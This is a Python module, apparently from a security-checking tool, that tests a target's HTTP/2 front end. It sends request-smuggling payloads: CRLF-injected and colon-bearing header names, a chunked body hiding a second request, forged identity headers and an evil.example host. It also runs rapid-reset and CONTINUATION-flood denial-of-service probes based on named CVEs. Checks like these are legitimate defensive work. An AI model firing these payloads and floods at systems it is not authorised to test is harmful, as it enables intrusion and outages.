"""HTTP/2: headers that become something else in HTTP/1, and floods of requests that nobody waits for.

Sources: RFC 9113 sections 8.2 and 8.3; CVE-2023-44487 (rapid reset); CVE-2024-27919 (CONTINUATION).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from shipworthy.prototype.edge.attack import Exchange
from shipworthy.sidecar.check.attempt import Attempt, Seen, bound, broken, got, held, shown, unknown
from shipworthy.sidecar.check.frames import Frames, NoHttp2
from shipworthy.sidecar.check.identity import FORGED
from shipworthy.sidecar.check.target import Target, Way, fresh_word

FAMILY = "http2"
_RESETS = 3_000
_BATCH = 50
_FRAMES = 400
Pairs = list[tuple[str, str]]


def attempts(target: Target) -> Iterator[Attempt]:
    """Odd headers, then floods."""
    del target
    safe = "a reset, 400, or a request to the application without what was smuggled in"
    for what, change in _ODD.items():
        run = bound(_odd, what, change)
        yield Attempt(f"http2-{what}", what.replace("-", " "), safe, run, twin_only=True)
    safe = "it goes through"
    yield Attempt("http2-honest", "an honest request over HTTP/2", safe, _honest)
    safe = "none of them reaches the application"
    tries = f"{len(FORGED)} forged identity headers, also with underscores, over HTTP/2"
    yield Attempt("http2-forged", tries, safe, _forged, twin_only=True)
    safe = "the connection is ended long before"
    tries = f"{_RESETS:,} requests, each taken back at once"
    yield Attempt("http2-rapid-reset", tries, safe, _rapid, twin_only=True)
    tries = f"{_FRAMES} frames of headers that never end"
    yield Attempt("http2-endless-headers", tries, safe, _endless)


def _base(target: Target, way: Way, word: str, method: str = "GET") -> Pairs:
    return [
        (":method", method),
        (":path", f"{way.path}?check={word}"),
        (":scheme", "https"),
        (":authority", target.authority_name),
        *way.headers,
    ]


def _smuggled(word: str) -> bytes:
    return f"GET /smuggled?check={word} HTTP/1.1\r\nhost: a\r\n\r\n".encode()


_ODD: dict[str, Callable[[Pairs, str], tuple[Pairs, bytes]]] = {
    "transfer-encoding": lambda h, w: (
        [*h, ("transfer-encoding", "chunked")],
        b"0\r\n\r\n" + _smuggled(w),
    ),
    "connection-header": lambda h, w: ([*h, ("connection", "x-user"), ("x-odd", w + "odd")], b""),
    "wrong-length": lambda h, w: ([*h, ("content-length", "0")], _smuggled(w)),
    "line-break-in-value": lambda h, w: ([*h, ("x-odd", f"a\r\nx-smuggled: {w}odd")], b""),
    "line-break-in-name": lambda h, w: ([*h, (f"x-odd: a\r\nx-smuggled: {w}odd", "b")], b""),
    "colon-in-name": lambda h, w: ([*h, ("x-smuggled: a", w + "odd")], b""),
    "capitals-in-name": lambda h, w: ([*h, ("X-User", w + "odd")], b""),
    "two-paths": lambda h, w: ([*h[:4], (":path", f"/other?check={w}odd"), *h[4:]], b""),
    "space-in-method": lambda h, w: (
        [(":method", f"GET /x?check={w}odd HTTP/1.1\r\nhost: a\r\n\r\nGET"), *h[1:]],
        b"",
    ),
    "other-host": lambda h, _: ([*h, ("host", "evil.example")], b""),
    "absolute-path": lambda h, w: (
        [h[0], (":path", f"http://evil.example/?check={w}odd"), *h[2:]],
        b"",
    ),
}


def _odd(target: Target, what: str, change: Callable[[Pairs, str], tuple[Pairs, bytes]]) -> Seen:
    way = target.way()
    if way is None or target.echo is None:
        return unknown("no honest way through to an echo")
    word = fresh_word()
    headers, body = change(_base(target, way, word), word)
    with _opened(target) as connection:
        answer = connection.answer(connection.open(headers, body))
    line = Exchange(sent=f"GET {way.path}; {shown(what)}", got=got(answer))
    reached = target.reached(word)
    for heard in reached:
        names = {n for n, _ in heard.headers}
        if "/smuggled" in heard.target or "x-smuggled" in names or f"{word}odd" in heard.target:
            return broken("what was smuggled in reached the application", line)
        if (heard.header("host") or "") == "evil.example" or heard.header("x-user"):
            return broken("it reached the application", line)
        if "x-user" in (heard.header("connection") or ""):
            return broken("the application's proxy header can be taken away by callers", line)
    return held("the application got none of it" if reached else "refused", line)


def _honest(target: Target) -> Seen:
    way = target.way()
    if way is None:
        return unknown("no honest way through is known")
    word = fresh_word()
    try:
        with Frames(target.place()) as connection:
            answer = connection.answer(connection.open(_base(target, way, word)))
    except NoHttp2:
        return broken("it speaks HTTP/1.1 only")
    line = Exchange(sent=f"GET {way.path} over HTTP/2", got=got(answer))
    if answer is None or answer.status >= 500 or (target.echo and not target.reached(word)):
        return broken("it did not come through", line)
    return held("answered", line)


def _forged(target: Target) -> Seen:
    way = target.way()
    if way is None or target.echo is None:
        return unknown("no honest way through to an echo")
    word, found = fresh_word(), set()
    value = f"forged-{word}"
    statuses = []
    for names in (FORGED, [n.replace("-", "_") for n in FORGED]):
        headers = _base(target, way, word) + [(n, value) for n in names] * 2
        with _opened(target) as connection:
            statuses.append(got(connection.answer(connection.open(headers))))
    for heard in target.reached(word):
        found |= {n for n, v in heard.headers if value in v}
    line = Exchange(sent=f"GET {way.path}; {FORGED[0]}: {value} …", got="; ".join(statuses))
    if found:
        return broken(f"the application got {', '.join(sorted(found))}", line)
    return held("none reached the application", line)


def _rapid(target: Target) -> Seen:
    way = target.way()
    if way is None:
        return unknown("no honest way through is known")
    word, sent = fresh_word(), 0
    with _opened(target) as connection:
        while sent < _RESETS and not connection.ended:
            for _ in range(_BATCH):
                connection.reset(connection.open(_base(target, way, word), flush=False))
                sent += 1
            connection.flush()
            connection.read(0.01)
        ended = connection.ended
    arrived = len(target.reached(word))
    line = Exchange(sent=f"{sent:,} requests taken back", got="ended" if ended else "kept open")
    after = target.ask("GET", way.path, *way.headers)
    if after is None or after.status >= 500:
        return broken("afterwards nothing is answered", line)
    if not ended:
        return broken(f"all were taken; {arrived:,} reached the application", line)
    return held(f"ended after {sent:,}; {arrived:,} reached the application", line)


def _endless(target: Target) -> Seen:
    """HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION: RFC 9113 section 6.10."""
    part = b"\x00\x05x-odd\x7f\x81\x7f" + b"a" * 256  # a literal header that is not indexed
    sent = 0
    with _opened(target) as connection:
        connection.raw(_frame(0x1, 0x0, part))
        while sent < _FRAMES and not connection.ended:
            connection.raw(_frame(0x9, 0x0, part * 4))
            connection.read(0.01)
            sent += 1
    line = Exchange(
        sent=f"{sent} CONTINUATION frames of 1 kB", got="ended" if connection.ended else ""
    )
    if connection.ended:
        return held(f"ended after {sent}", line)
    return broken("all were taken in", line)


def _frame(kind: int, flags: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + (1).to_bytes(4, "big") + body


def _opened(target: Target) -> Frames:
    return Frames(target.place())
